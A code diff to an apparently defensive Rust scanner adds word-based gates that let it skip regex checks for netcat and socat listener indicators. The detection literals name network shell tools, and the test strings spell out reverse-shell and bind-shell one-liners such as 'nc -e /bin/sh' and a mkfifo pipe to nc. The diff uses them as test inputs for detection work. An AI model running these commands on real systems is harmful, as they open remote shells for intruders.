@@ -650,6 +650,63 @@ fn anchor_groups(id: &str) -> Option<&'static [usize]> {
     }
 }
 
+/// Literals every match of an indicator's regex contains: as a whole word
+/// (`bounded`, with a regex `\b` on both sides), or anywhere (`anywhere`). Where
+/// the literal walk shows none of them in the regex's windows, the regex is not
+/// run: it could not match. Worth it where an anchor is a common substring
+/// (`nc` in `function`, `once`, `include`): its windows are many and its regex
+/// mostly fails, after restarting at every `nc`. A gate only skips work; it can
+/// never change a result (see `Gate::may_match`).
+fn word_gate(id: &str) -> Option<(&'static [&'static str], &'static [&'static str])> {
+    match id {
+        // `\b(nc|ncat|netcat|nc\.traditional)\b...`, `socat...`, `openssl\s+s_server`.
+        "network_listener" => Some((&["nc", "ncat", "netcat"], &["socat", "s_server"])),
+        // `\b(nc|...)\b...`, `...\|\s*(nc|ncat|netcat)\b` (after `|` or a space: a word start too).
+        "netcat_shell" => Some((&["nc", "ncat", "netcat"], &[])),
+        _ => None,
+    }
+}
+
+/// A compiled `word_gate`: literal ids (with their lengths) in the automaton.
+struct Gate {
+    bounded: Vec<(usize, usize)>,
+    anywhere: Vec<usize>,
+}
+
+/// A word byte for the regexes' ASCII `\b`.
+fn is_word_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+impl Gate {
+    /// False only if no match can exist in the haystack gathered from `windows`
+    /// of `bytes`: no `anywhere` literal hit the text, and no `bounded` literal
+    /// hit it as a whole word as the haystack shows it (a window's edge is a
+    /// word edge there: windows are joined by newlines). A literal with more
+    /// hits than `Positions` keeps may have one in the windows: then true.
+    fn may_match(&self, bytes: &[u8], windows: &[(usize, usize)], positions: &Positions) -> bool {
+        if self.anywhere.iter().any(|&l| positions.counts[l] > 0) {
+            return true;
+        }
+        self.bounded.iter().any(|&(l, len)| {
+            let kept = &positions[l];
+            if positions.counts[l] as usize > kept.len() {
+                return true;
+            }
+            kept.iter().any(|&q| {
+                let (start, end) = (q as usize, q as usize + len);
+                let left = start == 0
+                    || !is_word_byte(bytes[start - 1])
+                    || windows.iter().any(|w| w.0 == start);
+                let right = end >= bytes.len()
+                    || !is_word_byte(bytes[end])
+                    || windows.iter().any(|w| w.1 == end);
+                left && right
+            })
+        })
+    }
+}
+
 /// Indicators whose literal groups may sit anywhere in the script (a setup.py's
 /// hook class and its `setup(cmdclass=...)` call are far apart by design; `import `
 /// is context). For every other indicator with several groups, the groups must
@@ -745,6 +802,8 @@ pub struct Indicators {
     /// windows, so one haystack serves both, e.g. every `/bin/sh` indicator).
     same_windows: Vec<usize>,
     regexes: Vec<Option<Regex>>,
+    /// For each indicator: its `word_gate`, if it has one.
+    gates: Vec<Option<Gate>>,
     n_literals: usize,
 }
 
@@ -788,6 +847,21 @@ impl Indicators {
                 ids
             })
             .collect();
+        let gates = INDICATORS
+            .iter()
+            .map(|ind| {
+                let (bounded, anywhere) = word_gate(ind.id)?;
+                let find = |lit: &str| {
+                    literals.iter().position(|l| l == lit).unwrap_or_else(|| {
+                        panic!("gate literal {lit:?} of {} is no literal", ind.id)
+                    })
+                };
+                Some(Gate {
+                    bounded: bounded.iter().map(|l| (find(l), l.len())).collect(),
+                    anywhere: anywhere.iter().map(|l| find(l)).collect(),
+                })
+            })
+            .collect();
         let same_windows = (0..anchors.len())
             .map(|i| anchors.iter().position(|a| *a == anchors[i]).unwrap_or(i))
             .collect();
@@ -808,6 +882,7 @@ impl Indicators {
             same_windows,
             anchors,
             regexes,
+            gates,
             n_literals: literals.len(),
         }
     }
@@ -827,6 +902,11 @@ impl Indicators {
     /// groups did not all hit costs nothing more. Confirming regexes run only on
     /// the lines around their literal hits, within `REGEX_BUDGET`.
     pub fn evaluate(&self, text: &str) -> Vec<bool> {
+        self.evaluate_gated(text, true)
+    }
+
+    /// `evaluate`, with the word gates or without (the same result: tested).
+    fn evaluate_gated(&self, text: &str, use_gates: bool) -> Vec<bool> {
         let bytes = text.as_bytes();
         // The matcher folds ASCII case in its byte classes: no lowercased copy.
         let mut found: Vec<(u32, u32)> = Vec::new();
@@ -837,6 +917,8 @@ impl Indicators {
         let counts = &positions.counts;
         let mut haystacks: Vec<Option<std::borrow::Cow<'_, [u8]>>> =
             (0..INDICATORS.len()).map(|_| None).collect();
+        // The windows each haystack was gathered from (for the gates).
+        let mut gathered: Vec<Vec<(usize, usize)>> = vec![Vec::new(); INDICATORS.len()];
         let mut newlines: Option<Newlines> = None;
         INDICATORS
             .iter()
@@ -853,8 +935,13 @@ impl Indicators {
                 let slot = self.same_windows[i];
                 if self.regexes[i].is_some() && haystacks[slot].is_none() {
                     let lines = newlines.get_or_insert_with(|| Newlines::new(bytes));
-                    haystacks[slot] =
-                        Some(gather(bytes, &windows(lines, &self.anchors[i], &positions)));
+                    gathered[slot] = windows(lines, &self.anchors[i], &positions);
+                    haystacks[slot] = Some(gather(bytes, &gathered[slot]));
+                }
+                if let Some(gate) = self.gates[i].as_ref().filter(|_| use_gates) {
+                    if !gate.may_match(bytes, &gathered[slot], &positions) {
+                        return false;
+                    }
                 }
                 let haystack = || haystacks[slot].as_deref().unwrap_or_default();
                 match (&ind.confirm, &self.regexes[i]) {
@@ -1501,6 +1588,45 @@ mod tests {
         ));
         assert!(!fires("docker ps -a", "container_api_abuse"));
         assert!(!fires("sudo journalctl -u nginx -f", "log_wipe"));
+    }
+
+    #[test]
+    fn word_gates_change_no_result() {
+        let ind = Indicators::get();
+        let mut texts: Vec<String> = vec![
+            "nc -lvp 4444".into(),
+            "function once() { sync; }\nnc -e /bin/sh 1.2.3.4 9\n".into(),
+            "x|nc 1.2.3.4 9 -l\n".into(),
+            "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 9 > /tmp/f".into(),
+            "socat tcp-listen:4444 exec:/bin/sh".into(),
+            "openssl s_server -quiet -key k -cert c -port 4444".into(),
+            "NC.traditional -l -p 1".into(),
+            "encode nc|sh".into(),
+        ];
+        // Hits on window edges: long lines cut WINDOW_REACH from a hit, so a
+        // mid-word `nc` can start or end a window (a word edge in the haystack).
+        for pad in [
+            0usize, 1, 2, 3, 509, 510, 511, 512, 513, 514, 1020, 1024, 1030,
+        ] {
+            for word in ["xnc", "ncx", "nc", "encat", "netcatx", "xnetcat"] {
+                let a = "a".repeat(pad);
+                texts.push(format!("{a}{word} -l -p 1 {a} nc\n"));
+                texts.push(format!("nc {a}{word}|sh -l{a}\n"));
+                texts.push(format!("{a}ncat{a}{word} -e /bin/sh\n"));
+                texts.push(format!("{a}\n{word} -l\n{a}x{word}|sh"));
+            }
+        }
+        // More hits than Positions keeps.
+        texts.push(format!("{}nc -l 1", "once ".repeat(MAX_POSITIONS + 10)));
+        for text in &texts {
+            assert_eq!(
+                ind.evaluate_gated(text, true),
+                ind.evaluate_gated(text, false),
+                "{text:?}"
+            );
+        }
+        assert!(fires("x\nnc -lvp 4444", "network_listener"));
+        assert!(!fires("function once() { sync -l; }", "network_listener"));
     }
 
     #[test]
